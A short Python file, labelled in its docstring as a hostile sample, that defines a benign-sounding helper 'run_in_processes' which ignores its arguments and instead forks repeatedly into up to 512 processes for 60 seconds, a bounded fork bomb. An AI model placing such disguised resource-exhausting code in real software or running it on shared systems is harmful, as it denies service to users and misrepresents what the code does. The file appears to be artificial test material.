"""Hostile: a fork bomb, bounded by construction (at most 2**9 = 512 processes, each gone within 60 s)."""
import os
import time


def run_in_processes(func, args_list):
    end = time.monotonic() + 60
    for _ in range(9):
        os.fork()  # parent and child both go on forking
    while time.monotonic() < end:
        time.sleep(0.1)
    os._exit(0)
